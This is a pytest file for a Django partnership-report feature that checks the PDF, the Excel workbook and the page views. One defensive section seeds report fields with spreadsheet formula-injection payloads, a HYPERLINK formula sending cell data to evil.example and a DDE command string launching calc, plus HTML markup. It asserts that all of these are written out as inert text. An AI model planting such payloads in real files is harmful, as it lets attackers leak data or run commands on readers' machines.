"""The partnership report: the same figures as a page, a PDF and a workbook."""

import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from clusterbroker.plans import services
from clusterbroker.plans.report_pdf import report_pdf
from clusterbroker.plans.reports import build_report, kpi_rows, report_xlsx
from clusterbroker.plans.sample_data import load_plan_sample_data
from clusterbroker.registry.models import Partnership
from clusterbroker.registry.sample_data import load_sample_data

from ..pdf_text import pdf_pages
from .factories import ActionFactory, ComputedKpiFactory, ManualKpiFactory

pytestmark = pytest.mark.django_db

TODAY = dt.date(2026, 6, 30)


def pdf_text(content: bytes) -> str:
    """The text drawn on the PDF's pages."""
    return " ".join(pdf_pages(content))


@pytest.fixture
def report(world):
    ActionFactory(partnership=world.partnership, title="Mapping", lead=world.cluster)
    kpi = ManualKpiFactory(partnership=world.partnership, name="Agreements", target=10, unit="MoU")
    services.record_kpi_value(
        kpi,
        value=Decimal(2),
        as_of=dt.date(2025, 11, 1),
        entered_by=None,
        evidence_url="https://example.org/",
    )
    ComputedKpiFactory(partnership=world.partnership, name="Meetings held", target=40)
    return build_report(world.partnership, TODAY)


def test_the_report_gathers_members_actions_and_kpis(report, world):
    assert {m.name for m in report.members} == {"Mecha Cluster", "Precision Parts"}
    assert [a.title for a in report.actions] == ["Mapping"]
    assert report.status_counts["Planned"] == 1
    assert kpi_rows(report)[1:] == [
        ["Agreements", "MoU", "10", "2", "20%", "Entered by hand with evidence"],
        ["Meetings held", "", "40", "0", "0%", "Computed from the data"],
    ]
    assert any("Precision Parts leads no action" in w for w in report.warnings)


def test_the_pdf_opens_and_holds_the_kpi_table(report):
    text = pdf_text(report_pdf(report))
    assert "KPIs against targets" in text
    assert "Agreements" in text and "Meetings held" in text and "20%" in text


def test_the_workbook_opens_with_the_kpi_sheet_first(report):
    workbook = load_workbook(io.BytesIO(report_xlsx(report)))
    sheet = workbook.worksheets[0]
    assert sheet.title == "KPIs against targets"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("KPI", "Unit", "Target", "Achieved")
    assert rows[1][:4] == ("Agreements", "MoU", 10, 2)
    assert "Members" in workbook.sheetnames and "Action plan" in workbook.sheetnames


# --- user text is shown as written, never run (finding 7) --------------------------------

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.fixture
def hostile_report(world):
    """Every user text of the report starts like a formula or holds markup."""
    partnership = world.partnership
    partnership.name = '<a href="https://evil.example/">Alpine</a> <b'
    partnership.save()
    world.member_company.name = HOSTILE
    world.member_company.save()
    ActionFactory(partnership=partnership, title="+SUM(1,2)", lead=world.member_company)
    ActionFactory(partnership=partnership, title="@cmd|' /C calc'!A0", lead=world.cluster)
    ManualKpiFactory(partnership=partnership, name="-2+3", unit="=1+1", target=10)
    ManualKpiFactory(partnership=partnership, name="\tTabbed <i>", unit="\rCR")
    ManualKpiFactory(partnership=partnership, name="Bell\x07 and ESC\x1b <font size=90>")
    return build_report(partnership, TODAY)


def test_the_workbook_writes_user_text_as_text_not_as_formulas(hostile_report):
    workbook = load_workbook(io.BytesIO(report_xlsx(hostile_report)))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + HOSTILE in texts
    assert "'+SUM(1,2)" in texts and "'-2+3" in texts and "'=1+1" in texts
    assert "'\tTabbed <i>" in texts
    # Figures stay numbers.
    kpis = list(workbook["KPIs against targets"].iter_rows(values_only=True))
    assert kpis[1][2] == 10


def test_the_pdf_shows_markup_in_names_as_written(hostile_report, world):
    content = report_pdf(hostile_report)
    # The drawn text, without the spaces that the layout puts between pieces of a line.
    text = re.sub(r"\s+", "", pdf_text(content))
    assert 'Partnershipreport<ahref="https://evil.example/">Alpine</a><b' in text
    assert "BellandESC<fontsize=90>" in text and "Tabbed<i>" in text
    assert b"/Annot" not in content and b"/URI" not in content  # no link was made


def test_the_report_files_of_a_partnership_named_with_markup_are_served(hostile_report, world):
    client = world.client(world.partnership_manager)
    for name in ("report.pdf", "report.xlsx", "report/"):
        response = client.get(f"/plans/{world.partnership.slug}/{name}")
        assert response.status_code == 200, name


# --- the funder's PDF of the sample data (issue 17, finding 3) ----------------------------


def test_the_sample_partnerships_pdf_reads_as_a_funder_report(db):
    load_sample_data()
    load_plan_sample_data()
    partnership = Partnership.objects.get(slug="four-motors")
    report = build_report(partnership, TODAY)
    # The managers' page warns that Minalogic leads no action; the funder's PDF does not.
    assert any("Minalogic leads no action" in w for w in report.warnings)
    pages = pdf_pages(report_pdf(report))
    total = len(pages)
    assert total >= 3
    cover, summary = pages[0], pages[1]
    # A cover with the partnership, its programme, period and the day of the report.
    assert "4 Motors 4 Industry of the Future (4M4IoF)" in cover
    assert "Partnership report" in cover and "Funding programme" in cover
    assert "Period" in cover and "Report as of" in cover and "30 June 2026" in cover
    assert "15 June 2016" in cover and "14 June 2017" in cover  # the span of its plan
    assert "Page 1" not in cover
    # Then the summary: key figures and every KPI against its target, before any table.
    assert summary.index("Summary") < summary.index("KPIs against targets")
    assert partnership.kpis.count() == 6
    for kpi in partnership.kpis.all():
        assert kpi.name[:30] in summary.replace(") Tj (", "")
    assert "Action plan" not in summary and "Members" not in summary.split("members")[0]
    later = " ".join(pages[2:])
    assert later.index("Action plan") < later.index("Events and their figures")
    assert later.index("Events and their figures") < later.index("Competence matrix")
    # Numbered pages, each with the partnership's name.
    for number, page in enumerate(pages[1:], start=2):
        assert f"Page {number} of {total}" in page
        assert "4 Motors 4 Industry of the Future" in page
    assert "leads no action" not in " ".join(pages)
    assert "Warnings" not in " ".join(pages)
